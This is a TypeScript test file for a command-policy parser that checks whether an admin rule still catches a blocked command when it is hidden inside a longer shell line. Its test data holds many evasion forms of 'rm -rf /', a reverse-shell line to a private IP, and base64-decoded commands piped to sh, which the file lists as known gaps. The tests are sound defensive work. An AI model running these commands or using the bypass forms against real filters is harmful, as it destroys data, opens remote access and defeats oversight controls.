import { describe, expect, it } from "vitest";
import { commandSubjects, longestCheckedLine, parseCommandLine } from "@/lib/domain/command-policy/command-line";
import { CompiledRules } from "@/lib/domain/command-policy/rule-matcher";

// A rule as strict as an admin might write it: only the exact command, so every bypass below must reach it as such.
const removeRoot = new CompiledRules([{ kind: "command", matchMode: "regex", pattern: String.raw`^rm\s+-rf\s+/$` }]);
const caught = (line: string) => removeRoot.match(commandSubjects(line)).length > 0;

describe("reading a command line into the commands it runs", () => {
  it("catches the plain command, and the rule is strict enough to prove the bypasses", () => {
    expect(caught("rm -rf /")).toBe(true);
    expect(caught("rm -rf /tmp/x")).toBe(false);
    expect(caught("echo rm -rf /")).toBe(false);
  });

  it.each([
    ["&&", "echo hi && rm -rf /"],
    [";", "ls; rm -rf /"],
    ["||", "false || rm -rf /"],
    ["|", "cat list | rm -rf /"],
    ["&", "sleep 1 & rm -rf /"],
    ["no spaces", "ls;rm -rf /&&echo done"],
  ])("splits a chain at %s", (_, line) => {
    expect(caught(line)).toBe(true);
  });

  it("collapses runs of spaces and tabs", () => {
    expect(caught("  rm    -rf\t\t /  ")).toBe(true);
  });

  it.each([
    ["single quotes inside a word", "r'm' -rf /"],
    ["double quotes around a word", '"rm" -rf /'],
    ["a backslash inside a word", "r\\m -rf /"],
    ["quoted arguments", "rm \"-rf\" '/'"],
    ["ANSI-C quoting, hex", "$'\\x72m' -rf /"],
    ["ANSI-C quoting, octal", "$'\\162m' -rf /"],
  ])("takes out %s", (_, line) => {
    expect(caught(line)).toBe(true);
  });

  it.each([
    ["$(…)", "$(rm -rf /)"],
    ["$(…) as an argument", "echo $(rm -rf /)"],
    ["backticks", "echo `rm -rf /`"],
    ["nested $(…)", "echo $(echo $(rm -rf /))"],
    ["process substitution", "cat <(rm -rf /)"],
    ["$(…) inside double quotes", 'echo "$(rm -rf /)"'],
  ])("reads %s as a command of its own", (_, line) => {
    expect(caught(line)).toBe(true);
  });

  it("reads text in double quotes as an argument, not a command", () => {
    expect(parseCommandLine('echo "rm -rf /"').commands).not.toContain("rm -rf /");
    expect(caught('echo "rm -rf /"')).toBe(false);
    // The parser splits at `;` outside quotes only.
    expect(parseCommandLine('echo "a; b"').commands).toEqual(["echo a; b"]);
  });

  it.each([
    ["a pasted block", "ls\nrm -rf /"],
    ["a block with Windows line ends", "ls\r\nrm -rf /"],
    ["a backslash line continuation", "rm \\\n -rf /"],
  ])("reads %s line by line", (_, line) => {
    expect(caught(line)).toBe(true);
  });

  it.each([
    ["sudo with an option that takes a value", "sudo -u root rm -rf /"],
    ["env with an assignment", "env A=1 rm -rf /"],
    ["nohup in the background", "nohup rm -rf / &"],
    ["a stack of wrappers", "sudo -E env PATH=/x nice -n 10 timeout 5 rm -rf /"],
    ["command", "command rm -rf /"],
    ["an assignment alone", "LC_ALL=C rm -rf /"],
  ])("sees through %s", (_, line) => {
    expect(caught(line)).toBe(true);
  });

  it.each([
    ["a subshell", "(cd /tmp; rm -rf /)"],
    ["a group", "{ rm -rf /; }"],
    ["an if", "if true; then rm -rf /; fi"],
  ])("reads into %s", (_, line) => {
    expect(caught(line)).toBe(true);
  });

  // `2>&1` once ended the command at its `&` and left `rm -rf / 2>` and `1` as two commands.
  it("keeps redirections that contain & or | in their command", () => {
    expect(parseCommandLine("rm -rf / 2>&1").commands).toEqual(["rm -rf / 2>&1"]);
    expect(parseCommandLine("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").commands).toEqual(["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]);
    expect(parseCommandLine("echo x >| /etc/motd").commands).toEqual(["echo x >| /etc/motd"]);
    expect(caught("ls &>/dev/null && rm -rf /")).toBe(true);
  });

  // Documented in docs/SECURITY.md as not seen through: these assertions keep that list honest.
  it.each([
    ["a command in a variable", "a=rm; $a -rf /"],
    ["a base64-decoded command piped to a shell", "echo cm0gLXJmIC8= | base64 -d | sh"],
    ["an eval'd decoded string", 'eval "$(echo cm0gLXJmIC8= | base64 -d)"'],
  ])("does not see through %s", (_, line) => {
    expect(caught(line)).toBe(false);
  });

  it("marks a line longer than it checks as truncated, without throwing", () => {
    const line = `${"echo ok; ".repeat(Math.ceil((20 * 1024) / 9))}rm -rf /`;
    const parsed = parseCommandLine(line);
    expect(parsed.truncated).toBe(true);
    expect(parsed.whole.length).toBeLessThanOrEqual(longestCheckedLine);
    expect(commandSubjects(line).every((subject) => subject.length <= longestCheckedLine)).toBe(true);
    expect(parseCommandLine("rm -rf /").truncated).toBe(false);
  });

  it("limits the nesting it follows, quickly, even for a mebibyte of $(", () => {
    const started = performance.now();
    const parsed = parseCommandLine("$(".repeat(512 * 1024));
    expect(performance.now() - started).toBeLessThan(1000);
    expect(parsed.truncated).toBe(true);
    for (const line of ["(".repeat(1024 * 1024), "`".repeat(1024 * 1024), '"$('.repeat(350 * 1024)]) expect(() => parseCommandLine(line)).not.toThrow();
  });

  it("still splits what is nested deeper than it follows at its parentheses", () => {
    expect(caught(`${"$(".repeat(20)}rm -rf /${")".repeat(20)}`)).toBe(true);
  });
});
